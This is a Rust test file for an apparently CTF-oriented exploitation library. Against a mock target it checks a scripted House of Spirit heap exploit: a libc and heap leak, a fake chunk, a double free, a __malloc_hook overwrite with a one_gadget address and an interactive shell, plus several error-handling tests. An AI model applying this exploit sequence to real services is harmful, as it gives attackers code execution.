mod common;

use common::{MockConfig, MockTarget, Op};

use spirit::house_of_spirit::{self, Layout};
use spirit::leak::LeakLabels;
use spirit::payload::PayloadSpec;
use spirit::script::{ErrorKind, LeakPlan, Script, Sequencer, State};
use spirit::session::Session;
use spirit::timer::TimeoutVal;
use spirit::tubes::Connection;
use spirit::util::p64;

const LIBC: u64 = 0x7f0000000000;
const PUTS: u64 = 0x812a0;
const MALLOC_HOOK: u64 = 0x3b4c50;
const ONE_GADGET: u64 = 0xe1fa1;
const HEAP: u64 = 0x55aa000;

fn layout() -> Layout {
    Layout::new(PUTS, MALLOC_HOOK, ONE_GADGET)
}

fn mock_config() -> MockConfig {
    MockConfig { puts: LIBC + PUTS, heap: HEAP, ..MockConfig::default() }
}

async fn sequencer(mock: &MockTarget) -> anyhow::Result<Sequencer<Connection>> {
    let conn = Connection::connect(&mock.mode()).await?;
    let session = Session::new(conn, TimeoutVal::from_millis(2000));
    Ok(Sequencer::new(session, TimeoutVal::from_millis(300)))
}

fn alloc(size: u64, data: &[u8], label: &[u8]) -> (u64, Vec<u8>, Vec<u8>) {
    (size, data.to_vec(), label.to_vec())
}

#[tokio::test]
async fn house_of_spirit_end_to_end() -> anyhow::Result<()> {
    let mock = MockTarget::spawn(MockConfig {
        silent_at_alloc: Some(7),
        ..mock_config()
    }).await?;

    let script = house_of_spirit::script(&layout());
    let done = sequencer(&mock).await?.run(&script).await?;

    assert!(done.went_silent);
    assert_eq!(done.trace, vec![
        State::Init,
        State::LeakCaptured,
        State::Checkpoint("UserInfoSent".into()),
        State::Checkpoint("ChunksAllocated".into()),
        State::Checkpoint("SpiritAllocated".into()),
        State::Checkpoint("DoubleFreed".into()),
        State::Checkpoint("HookOverwritten".into()),
        State::Checkpoint("HookTriggered".into()),
        State::Interactive,
    ]);
    assert_eq!(done.bindings.get("dup"), Some(&0));
    assert_eq!(done.bindings.get("safety"), Some(&1));
    assert_eq!(done.bindings.get("spirit"), Some(&2));
    assert_eq!(done.session.library_base(), Some(LIBC));
    assert_eq!(done.session.heap_base(), Some(HEAP));
    assert_eq!(done.session.slot_counter(), 7);

    let ops = mock.ops();
    assert_eq!(ops[0], Op::UserInfo { age: 0, name: b"Broder".to_vec() });

    let allocs: Vec<(u64, Vec<u8>, Vec<u8>)> = ops.iter().filter_map(|op| match op {
        Op::Alloc { size, data, label, .. } => Some((*size, data.clone(), label.clone())),
        _ => None,
    }).collect();

    let mut spirit_label = b"CCCCCCCC".to_vec();
    spirit_label.extend(p64(HEAP + 0x10));
    let mut hook_data = vec![b'X'; 0x13];
    hook_data.extend(p64(LIBC + ONE_GADGET));

    assert_eq!(allocs, vec![
        alloc(0x68, b"AAAAAAAA", b"AAAAAAAA"),
        alloc(0x68, b"BBBBBBBB", b"BBBBBBBB"),
        alloc(0x18, b"CCCCCCCC", &spirit_label),
        alloc(0x68, &p64(LIBC + MALLOC_HOOK - 0x23), b"CCCCCCCC"),
        alloc(0x68, b"DDDDDDDD", b"DDDDDDDD"),
        alloc(0x68, b"EEEEEEEE", b"EEEEEEEE"),
        alloc(0x68, &hook_data, b"FFFFFFFF"),
    ]);

    // request order, frees included
    let order: Vec<String> = ops.iter().map(|op| match op {
        Op::UserInfo { .. } => "info".to_string(),
        Op::Alloc { slot, .. } => format!("alloc {}", slot),
        Op::Free { slot } => format!("free {}", slot),
        Op::Triggered { size } => format!("trigger {}", size),
        other => format!("{:?}", other),
    }).collect();
    assert_eq!(order, vec![
        "info",
        "alloc 0", "alloc 1", "alloc 2",
        "free 0", "free 1", "free 2",
        "alloc 3", "alloc 4", "alloc 5", "alloc 6",
        "trigger 1",
    ]);
    Ok(())
}

#[tokio::test]
async fn timeout_before_last_step_aborts() -> anyhow::Result<()> {
    let mock = MockTarget::spawn(MockConfig {
        ask_user_info: false,
        silent_at_alloc: Some(1),
        ..mock_config()
    }).await?;

    let plan = LeakPlan { labels: LeakLabels::default(), symbol_offset: PUTS };
    let script = Script::new("stalls", plan)
        .allocate_as("a", 0x68, PayloadSpec::new().fill(b'A', 8), PayloadSpec::new().fill(b'A', 8))
        .allocate_as("b", 0x68, PayloadSpec::new().fill(b'B', 8), PayloadSpec::new().fill(b'B', 8))
        .free("a")
        .allocate(1, PayloadSpec::empty(), PayloadSpec::empty())
        .tolerate_silence();

    let err = match sequencer(&mock).await?.run(&script).await {
        Ok(_) => anyhow::bail!("a stalled middle step has to fail the run"),
        Err(err) => err,
    };
    assert_eq!(err.kind(), ErrorKind::Timeout);
    assert!(err.to_string().contains("step 1"));

    // nothing was issued after the failing step
    assert_eq!(mock.ops(), vec![
        Op::Alloc { slot: 0, size: 0x68, data: b"AAAAAAAA".to_vec(), label: b"AAAAAAAA".to_vec() },
        Op::Triggered { size: 0x68 },
    ]);
    Ok(())
}

#[tokio::test]
async fn missing_heap_leak_is_a_parse_error() -> anyhow::Result<()> {
    let mock = MockTarget::spawn(MockConfig { hide_heap: true, ..mock_config() }).await?;

    let script = house_of_spirit::script(&layout());
    let err = match sequencer(&mock).await?.run(&script).await {
        Ok(_) => anyhow::bail!("run without a heap leak cannot succeed"),
        Err(err) => err,
    };
    assert_eq!(err.kind(), ErrorKind::Parse);
    assert!(mock.ops().is_empty());
    Ok(())
}

#[tokio::test]
async fn closed_target_is_a_connection_error() -> anyhow::Result<()> {
    let mock = MockTarget::spawn(MockConfig { ask_user_info: false, ..mock_config() }).await?;

    let plan = LeakPlan { labels: LeakLabels::default(), symbol_offset: PUTS };
    // the empty answer takes the first menu prompt off the wire
    let script = Script::new("quits early", plan)
        .answer(vec![])
        .inspect()
        .quit()
        .allocate(0x18, PayloadSpec::new().fill(b'A', 8), PayloadSpec::new().fill(b'A', 8));

    let err = match sequencer(&mock).await?.run(&script).await {
        Ok(_) => anyhow::bail!("allocating after quit cannot succeed"),
        Err(err) => err,
    };
    assert_eq!(err.kind(), ErrorKind::Connection);
    assert_eq!(mock.ops(), vec![Op::Target, Op::Quit]);
    Ok(())
}

#[tokio::test]
async fn back_to_back_choices_are_all_served() -> anyhow::Result<()> {
    let mock = MockTarget::spawn(MockConfig { ask_user_info: false, ..mock_config() }).await?;

    let plan = LeakPlan { labels: LeakLabels::default(), symbol_offset: PUTS };
    let script = Script::new("inspect twice", plan)
        .answer(vec![])
        .inspect()
        .inspect()
        .quit();

    let done = sequencer(&mock).await?.run(&script).await?;
    assert!(!done.went_silent);
    assert_eq!(done.trace.last(), Some(&State::Interactive));

    // quit does not wait for a reply, give the mock a moment to record it
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(mock.ops(), vec![Op::Target, Op::Target, Op::Quit]);
    Ok(())
}

#[tokio::test]
async fn unbound_slot_fails_without_touching_the_target() -> anyhow::Result<()> {
    let mock = MockTarget::spawn(MockConfig { ask_user_info: false, ..mock_config() }).await?;

    let plan = LeakPlan { labels: LeakLabels::default(), symbol_offset: PUTS };
    let script = Script::new("typo", plan).free("dupp");

    let err = match sequencer(&mock).await?.run(&script).await {
        Ok(_) => anyhow::bail!("freeing an unknown name cannot succeed"),
        Err(err) => err,
    };
    assert_eq!(err.kind(), ErrorKind::Other);
    assert!(mock.ops().is_empty());
    Ok(())
}
